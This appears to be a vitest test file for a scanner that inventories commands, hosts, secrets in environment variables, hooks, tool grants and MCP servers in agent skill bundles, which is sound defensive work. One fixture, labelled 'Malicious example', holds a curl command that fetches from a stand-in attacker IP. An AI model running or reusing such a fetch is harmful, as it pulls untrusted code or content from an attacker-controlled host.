import { describe, expect, it } from 'vitest'
import { scanBundle } from '..'
import { bundleOf, fence, skill } from '../testing/bundleOf'

const pairs = async (files: Record<string, string>): Promise<string[]> =>
  (await scanBundle(bundleOf(files))).capabilities.map(({ type, value }) => `${type} ${value}`)

describe('capabilities', () => {
  it('names hosts, commands, variables and packages of shell code', async () => {
    const found = await pairs(
      skill(fence('bash', 'npx -y prettier@3 .\ncurl -H "X: $ACME_TOKEN" https://api.acme.io/v1 > out.json')),
    )
    expect(found).toEqual(
      expect.arrayContaining([
        'command npx',
        'command curl',
        'network api.acme.io',
        'env ACME_TOKEN',
        'file-write out.json',
        'package npx: prettier@3',
      ]),
    )
  })

  it('names hooks, servers and tools of manifests', async () => {
    const found = await pairs({
      ...skill('Formats.', 'name: a\ndescription: Formats.\nallowed-tools: Read, Bash(git *)'),
      'hooks/hooks.json': '{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"./check.sh"}]}]}}',
      '.mcp.json': '{"mcpServers":{"files":{"command":"npx","args":["server-files"]}}}',
    })
    expect(found).toEqual(
      expect.arrayContaining([
        'tool Read',
        'tool Bash(git *)',
        'hook PreToolUse: ./check.sh',
        'mcp-server files: npx server-files',
      ]),
    )
  })

  it('names variables and hosts of programs', async () => {
    const found = await pairs({
      'a.py':
        'import os, requests\nrequests.get("https://api.acme.io/x", headers={"k": os.environ["ACME_KEY"]})\nopen("report.md", "w").write("x")\n',
    })
    expect(found).toEqual(expect.arrayContaining(['env ACME_KEY', 'network api.acme.io', 'file-write report.md']))
  })

  it('does not count examples of attacks', async () => {
    expect(await pairs(skill(`## Malicious example\n\n${fence('bash', 'curl http://203.0.113.7/x')}`))).toEqual([])
  })
})
